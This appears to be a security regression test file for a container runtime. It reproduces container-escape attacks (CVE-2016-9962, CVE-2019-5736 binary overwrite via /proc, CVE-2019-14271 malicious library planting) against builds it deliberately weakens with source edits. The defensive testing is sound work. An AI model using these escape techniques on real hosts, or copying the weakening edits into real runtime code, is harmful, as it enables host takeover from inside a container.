/** The runtime's own programs and processes, which for a moment are inside the container. */
import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, type Edit, lootOf, type Scene, withContainer } from "./attack.ts";

const writableProgram: Edit = {
  file: "native/lib/spawn.c",
  from: "	if (fd < 0 || syscall(SYS_mount_setattr",
  to: "	if (fd < 0 || read_only.attr_set || syscall(SYS_mount_setattr",
};
const dumpable: Edit = {
  file: "native/monitor/main.c",
  from: "	prctl(PR_SET_DUMPABLE, 0);\n",
  to: "",
};

/** Many places to look for a program in are a long while between the last privilege given up and its execution. */
const SLOW_PATH = `PATH=${Array.from({ length: 400 }, (_, index) => `/none/${index}`).join(":")}:/bin`;
const EXECS = 12;

/** Lets the attacker lie in wait for processes that join its container. */
async function grab(scene: Scene, flags: readonly string[]): Promise<string[]> {
  const monitor = join(scene.installation, "native", "build", "tsrun-monitor");
  const { dev, ino } = statSync(monitor);
  const ambush = await scene.ambush(["grab", String(dev), String(ino), scene.secret], flags);
  return withContainer(scene, ambush.name, async () => {
    for (let i = 0; i < EXECS && lootOf({ stdout: ambush.output() }).length === 0; i++)
      await scene.cli.tsrun("exec", "-e", SLOW_PATH, ambush.name, "true");
    chmodSync(monitor, 0o755);
    return lootOf({ stdout: ambush.output() });
  });
}

export const programAttacks: readonly Attack[] = [
  {
    name: "CVE-2016-9962: a process on its way into the container, seen through /proc by what is there",
    weakening: [dumpable],
    attempt: (scene) => grab(scene, []),
  },
  {
    name: "CVE-2019-5736: the monitor's program, found as the program of a process that joins",
    weakening: [dumpable, writableProgram],
    // With this capability the attacker may look at the process, so that only the mount is in the way.
    attempt: async (scene) =>
      (await grab(scene, ["--cap-add", "SYS_PTRACE"])).filter((line) => line.includes("can be changed")),
  },
  {
    name: "CVE-2019-5736: the program of --init, as that of pid 1",
    weakening: [
      {
        file: "src/engine/mounts.ts",
        from: 'source, options: ["bind", "rprivate", "ro"] }',
        to: 'source, options: ["bind", "rprivate"] }',
      },
    ],
    async attempt(scene) {
      const result = await scene.run(["change-program", "/proc/1/exe", "/dev/init"], { flags: ["--init"] });
      chmodSync(join(scene.installation, "native", "build", "tsrun-init"), 0o755);
      return lootOf(result);
    },
  },
  {
    name: "CVE-2019-14271: a library of the container's, loaded by the command that reads its files",
    weakening: [
      {
        file: "native/lib/overlay.c",
        from: '	return clone_tree("/", 0);\n',
        to: '	extern void *dlopen(const char *, int);\n	dlopen("/tmp/trap/libnss_files.so.2", 2);\n	return clone_tree("/", 0);\n',
      },
    ],
    async attempt(scene) {
      const trap = join(scene.cli.directory, "trap");
      const source = join(scene.cli.directory, "trap.c");
      mkdirSync(trap, { recursive: true });
      const spring = 'creat("/tmp/loaded", 0644);';
      writeFileSync(
        source,
        `#include <fcntl.h>\n__attribute__((constructor)) void sprung(void) { ${spring} }\n`,
      );
      for (const name of ["libnss_files.so.2", "libc.so.6", "libnss_dns.so.2"])
        execFileSync("gcc", ["-shared", "-fPIC", "-o", join(trap, name), source]);
      const flags = ["/tmp/trap", "/lib/x86_64-linux-gnu", "/lib64"].flatMap((path) => [
        "-v",
        `${trap}:${path}`,
      ]);
      const container = await scene.hold(...flags);
      return withContainer(scene, container, async () => {
        await scene.cli.shell(
          `tsrun export ${container} >/dev/null; tsrun cp ${container}:/etc/passwd - >/dev/null`,
        );
        const { code } = await scene.cli.tsrun("exec", container, "test", "-e", "/tmp/loaded");
        return code === 0 ? ["LOOT the container's library ran on the host"] : [];
      });
    },
  },
  {
    name: "a thread that its parent, the monitor, is to trace: what cannot be waited for cannot be ended",
    weakening: [{ file: "native/monitor/service.c", from: "		children_reap();\n", to: "		(void)0;\n" }],
    async attempt(scene) {
      const { name, result } = await scene.ambush(["leave-thread"]);
      const pid = Number(await scene.cli.output("inspect", "-f", "{{.State.Pid}}", name));
      const monitor = Number(readFileSync(`/proc/${pid}/stat`, "latin1").split(") ")[1]?.split(" ")[1]);
      process.kill(pid, "SIGKILL");
      const isOver = await Promise.race([result.then(() => true), sleep(5_000, false)]);
      if (!isOver) process.kill(monitor, "SIGKILL");
      await result;
      return isOver ? [] : ["LOOT a container that nothing ends"];
    },
  },
];
